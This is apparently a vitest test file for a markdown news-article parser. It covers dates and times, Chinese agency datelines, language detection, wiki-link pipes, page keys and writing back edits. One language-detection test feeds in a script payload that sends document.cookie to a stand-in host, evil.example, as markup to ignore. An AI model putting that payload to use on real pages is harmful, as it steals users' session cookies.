/**
 * The general rules behind the import14 fixes (see import14.test.ts), each on shapes beyond the fixtures: a time after
 * a field separator or written `14h30`, French dates, day-first slashes; the reporter of a CNA or Xinhua dateline; a `<script>` or `<style>` element
 * not counted as the article's language; a GFM-escaped pipe in a wiki-link; 臺 and 台 as one page; an edit written back
 * without touching the white space and reference definitions around the edited block.
 */
import { describe, expect, it } from 'vitest';
import { findDate } from '../../../../shared/markdown/dates';
import { datelineAuthor, datelineDate } from '../../../../shared/markdown/dateline';
import { detectLanguage, parseArticleText } from '../../../../shared/markdown/parseArticle';
import { splitWikiLink } from '../../../../shared/markdown/wikiLinkRule';
import { writeBackEdit } from '../../../../shared/markdown/writeBack';
import type { DocJSON } from '../../../../shared/model/article';
import { wikiPageKey } from '../../../../shared/text/wikiTitle';

const iso = (text: string): string | null => findDate(text)?.iso ?? null;

describe('a time after a separator, or written 14h30', () => {
  it('reads the clock after |, ｜ or · as the date’s time, and leaves the rest of the line to the author', () => {
    expect(iso('2024-05-14 | 14:30 | 王小明')).toBe('2024-05-14T14:30:00Z');
    expect(iso('2024年5月14日 ｜ 下午2:30')).toBe('2024-05-14T14:30:00Z');
    expect(iso('3 November 2023 · 14:05 GMT')).toBe('2023-11-03T14:05:00Z');
    expect(iso('May 14, 2024 | 9:05 AM EDT')).toBe('2024-05-14T13:05:00Z');
    const line = '2024-05-14 | 14:30 | 王小明';
    const found = findDate(line)!;
    expect(line.slice(found.start, found.end)).toBe('2024-05-14 | 14:30');
  });

  it('reads 14h30 (French, Quebec) but not a number of hours', () => {
    expect(iso('May 14, 2024 14h30 UTC')).toBe('2024-05-14T14:30:00Z');
    expect(iso('14 May 2024 9h05')).toBe('2024-05-14T09:05:00Z');
    expect(iso('2024-05-14 24h news')).toBe('2024-05-14T00:00:00Z');
    expect(iso('2024-05-14 | 12 comments')).toBe('2024-05-14T00:00:00Z');
    expect(iso('2024-05-14 14h75')).toBe('2024-05-14T00:00:00Z');
    expect(iso('2024-05-14 14 h 30')).toBe('2024-05-14T14:30:00Z');
  });

  it('reads French dates with their time, and a day-first date that cannot be month-first', () => {
    expect(iso('Publié le 14 mai 2024 à 14h30')).toBe('2024-05-14T14:30:00Z');
    expect(iso('Mis à jour le 1er févr. 2024 à 9 h 05 UTC')).toBe('2024-02-01T09:05:00Z');
    expect(iso('15 août 2023, 22h00')).toBe('2023-08-15T22:00:00Z');
    expect(iso('3 décembre 2023')).toBe('2023-12-03T00:00:00Z');
    expect(iso('14/05/2024 14 h 30')).toBe('2024-05-14T14:30:00Z');
    expect(iso('5/14/2024 2:30 PM')).toBe('2024-05-14T14:30:00Z');
    expect(iso('3/5/2021')).toBe('2021-03-05T00:00:00Z');
    expect(iso('31/13/2024')).toBe(null);
  });

  it('takes the French labels of a metadata line out of the author', () => {
    const meta = (line: string) => parseArticleText(`## Titre\n${line}\n\nLe président a dit.\n`).meta;
    expect(meta('`Publié le 14 mai 2024 à 14h30 par Jean Dupont` [Source](https://www.lemonde.fr/x)')).toMatchObject({ author: 'Jean Dupont', published: '2024-05-14T14:30:00Z' });
    expect(meta('`Mis à jour le 1er févr. 2024 à 9 h 05 UTC · Par Marie Curie` [Source](https://x.fr/y)')).toMatchObject({ author: 'Marie Curie', published: '2024-02-01T09:05:00Z' });
  });
});

describe('the reporter of an agency dateline', () => {
  it('cuts the place after the last name: a known place, else a three-character name', () => {
    expect(datelineAuthor('（中央社記者王小明台北15日電）外交部今天表示')).toBe('王小明');
    expect(datelineAuthor('（中央社記者林志明、陳美玲華盛頓14日專電）美國')).toBe('林志明、陳美玲');
    expect(datelineAuthor('（中央社記者張文新北3日電）')).toBe('張文');
    expect(datelineAuthor('（中央社記者歐陽小明高雄3日電）')).toBe('歐陽小明');
    expect(datelineAuthor('（中央社記者陳家豪布里斯本3日綜合外電報導）')).toBe('陳家豪');
    expect(datelineAuthor('（中央社記者陳家豪斯德哥爾摩3日專電）')).toBe('陳家豪');
    expect(datelineAuthor('(中央社记者王小明北京15日电)')).toBe('王小明');
  });

  it('names no one when the dateline has no name, or is not at the start', () => {
    expect(datelineAuthor('（中央社記者台北5日電）行政院今天宣布')).toBe(null);
    expect(datelineAuthor('（中央社台北5日電）行政院今天宣布')).toBe(null);
    expect(datelineAuthor('行政院今天宣布。（中央社記者王小明台北15日電）')).toBe(null);
    expect(datelineAuthor('中央社記者王小明今天在台北說')).toBe(null);
  });

  it('reads the other papers’ forms: an outlet before 記者, a slash before the place, 綜合報導, an issue line', () => {
    expect(datelineAuthor('【大紀元2024年05月15日訊】（大紀元記者李辰綜合報導）美國國會')).toBe('李辰');
    expect(datelineAuthor('（大紀元記者王小明台灣台北報導）')).toBe('王小明');
    expect(datelineAuthor('（美國之音記者王小明華盛頓報導）')).toBe('王小明');
    expect(datelineAuthor('〔記者王小明／台北報導〕行政院今天')).toBe('王小明');
    expect(datelineAuthor('〔自由時報記者王小明、李大華／台北報導〕')).toBe('王小明、李大華');
    expect(datelineAuthor('記者王小明／台北即時報導\n行政院今天')).toBe('王小明');
    expect(datelineAuthor('（記者王小明報導）')).toBe('王小明');
    expect(datelineAuthor('記者王小明今天在台北說')).toBe(null);
    expect(datelineAuthor('（大紀元記者綜合報導）')).toBe(null);
  });

  it('reads the date of an issue line or dateline that writes it in full, when the header gives none', () => {
    expect(datelineDate('【大紀元2024年05月15日訊】（大紀元記者李辰綜合報導）美國國會')).toBe('2024-05-15T00:00:00Z');
    expect(datelineDate('（中央社記者王小明台北2024年5月15日電）')).toBe('2024-05-15T00:00:00Z');
    expect(datelineDate('（中央社記者王小明台北15日電）')).toBe(null);
    expect(datelineDate('外交部今天表示【2024年5月15日】')).toBe(null);
    const bare = parseArticleText('## 美國國會通過法案\n\n【大紀元2024年05月15日訊】（大紀元記者李辰綜合報導）美國國會今天通過法案。\n');
    expect(bare.meta).toMatchObject({ author: '李辰', published: '2024-05-15T00:00:00Z' });
    expect(bare.warnings).toEqual([]);
    const dated = parseArticleText('## 標題\n`2024-05-16 08:00` [轉載自大紀元](https://www.epochtimes.com/b5/24/5/15/n1.htm)\n\n【大紀元2024年05月15日訊】美國國會。\n');
    expect(dated.meta.published).toBe('2024-05-16T08:00:00Z');
  });

  it('reads Xinhua’s reporter in brackets after the dateline', () => {
    expect(datelineAuthor('新华社北京5月15日电（记者王小明、李华）国务院新闻办公室')).toBe('王小明、李华');
    expect(datelineAuthor('新華社香港5月15日電（記者陳思）')).toBe('陳思');
    expect(datelineAuthor('新华社北京5月15日电（国际观察）')).toBe(null);
  });

  it('is the author only when the header names no one, or only the agency', () => {
    const header = '## 標題\n`2024-05-15 14:30 李四` [轉載自中央社](https://www.cna.com.tw/news/1)\n\n';
    expect(parseArticleText(`${header}（中央社記者王小明台北15日電）外交部今天表示。\n`).meta.author).toBe('李四');
    const agency = '## 標題\n`2024-05-15 14:30 中央社` [轉載自中央社](https://www.cna.com.tw/news/1)\n\n';
    expect(parseArticleText(`${agency}（中央社記者王小明台北15日電）外交部今天表示。\n`).meta.author).toBe('王小明');
    expect(parseArticleText(`${agency}（中央社記者台北15日電）外交部今天表示。\n`).meta.author).toBe('中央社');
    expect(parseArticleText(`${agency}外交部今天表示。\n`).meta.author).toBe('中央社');
    const bare = '## 標題\n`2024-05-15 14:30` [轉載自中央社](https://www.cna.com.tw/news/1)\n\n';
    const article = parseArticleText(`${bare}（中央社記者王小明台北15日電）外交部今天表示。\n`);
    expect(article.meta.author).toBe('王小明');
    expect(article.text).toBe('（中央社記者王小明台北15日電）外交部今天表示。');
  });
});

describe('the language of a body with script and style elements', () => {
  it('does not count the code inside <script> and <style>, closed or split over lines', () => {
    expect(detectLanguage("<script>document.location='https://evil.example/?c='+document.cookie</script>\n\n官员说谈判继续。")).toBe('zh');
    expect(detectLanguage('<STYLE>\nbody { display: none; font-family: serif }\n</STYLE>\n\n官员说谈判继续。')).toBe('zh');
    expect(detectLanguage('<script>var x = 1;</script> The talks go on, officials said.')).toBe('en');
    // An unclosed tag hides nothing after it.
    expect(detectLanguage('<script src=x> The talks go on, officials said, in Doha today 官员.')).toBe('en');
  });
});

describe('a pipe escaped for a table inside a wiki-link', () => {
  it('is the link’s pipe, in a table cell and in a paragraph', () => {
    expect(splitWikiLink('zh:阿曼\\|阿曼')).toMatchObject({ lang: 'zh', target: '阿曼', label: '阿曼' });
    const a = parseArticleText('| 國家 | 備註 |\n|---|---|\n| [[zh:阿曼\\|蘇丹國]] | 甲 \\| 乙 |\n\n段落裡的[[zh:約旦\\|約旦王國]]。\n');
    expect(a.wikiLinks.map((l) => [l.target, a.text.slice(l.start, l.end)])).toEqual([['阿曼', '蘇丹國'], ['約旦', '約旦王國']]);
    expect(a.text).toBe('國家\n\n備註\n\n蘇丹國\n\n甲 | 乙\n\n段落裡的約旦王國。');
  });

  it('keeps a backslash that is itself escaped', () => {
    expect(splitWikiLink('zh:A\\\\|b')).toMatchObject({ target: 'A\\', label: 'b' });
  });
});

describe('spellings of one page', () => {
  it('counts 臺 and 台 as one page on the Chinese Wikipedia only', () => {
    expect(wikiPageKey('zh', '臺灣')).toBe(wikiPageKey('zh', '台湾'));
    expect(wikiPageKey('zh', '臺北市')).toBe(wikiPageKey('zh', '台北市'));
    expect(wikiPageKey('zh', '國立臺灣大學 (校本部)')).toBe(wikiPageKey('zh', '国立台湾大学 (校本部)'));
    expect(wikiPageKey('ja', '臺灣')).not.toBe(wikiPageKey('ja', '台湾'));
  });
});

describe('an edited block written back', () => {
  /** The file with the text `from` of the document's block `block` replaced by `to`, written back. */
  const edit = (source: string, block: number, from: string, to: string): string | null => {
    const a = parseArticleText(source);
    const edited = JSON.parse(JSON.stringify(a.doc).replace(from, to)) as DocJSON;
    expect(JSON.stringify(edited.content![block])).toContain(to);
    return writeBackEdit({ source, bodyStart: a.bodyStart, baseDoc: a.doc, editedDoc: edited, lang: a.meta.lang });
  };
  const header = '## 标题\n`2024-05-14 08:00 宝尹` [轉載自GNews](https://gnews.org/articles/1)\n\n';

  it('keeps the white space ending the line of the block before it', () => {
    expect(edit(`${header}第一段。   \n\n第二段。\n`, 1, '第二段', '第二段改')).toBe(`${header}第一段。   \n\n第二段改。\n`);
    expect(edit(`${header}第一段。\t\n\n\n\n第二段。\n\n第三段。\n`, 1, '第二段', '第二段改')).toBe(`${header}第一段。\t\n\n\n\n第二段改。\n\n第三段。\n`);
  });

  it('keeps the reference definitions between and after blocks, and the links that use them in reference form', () => {
    const middle = `${header}第一段[甲][a]。\n\n[a]: https://a.example/\n\n第二段[乙][a]。\n`;
    expect(edit(middle, 1, '第二段', '第二段改')).toBe(`${header}第一段[甲][a]。\n\n[a]: https://a.example/\n\n第二段改[乙][a]。\n`);
    const end = `${header}第一段。\n\n第二段[乙][a]、[B][]与[*强调* \\[1\\]][c]。\n\n[a]: https://a.example/ "A"\n[b]: <https://b.example/x y>\n[c]: https://c.example/\n`;
    expect(edit(end, 1, '第二段', '第二段改')).toBe(
      `${header}第一段。\n\n第二段改[乙][a]、[B][]与[*强调* \\[1\\]][c]。\n\n[a]: https://a.example/ "A"\n[b]: <https://b.example/x y>\n[c]: https://c.example/\n`,
    );
    // A destination no definition gives stays inline; so does text that only looks like a link's end.
    const inline = `${header}第一段。\n\n第二段[乙](https://z.example/)与 a\\](b)。\n\n[d]: b\n`;
    expect(edit(inline, 1, '第二段', '第二段改')).toBe(`${header}第一段。\n\n第二段改[乙](https://z.example/)与 a\\](b)。\n\n[d]: b\n`);
  });

  it('keeps a file without a final newline without one, and CRLF as CRLF', () => {
    expect(edit(`${header}第一段。\n\n第二段。`, 1, '第二段', '第二段改')).toBe(`${header}第一段。\n\n第二段改。`);
    const crlf = `${header}第一段。  \n\n第二段。\n`.replace(/\n/g, '\r\n');
    expect(edit(crlf, 1, '第二段', '第二段改')).toBe(`${header}第一段。  \n\n第二段改。\n`.replace(/\n/g, '\r\n'));
  });
});
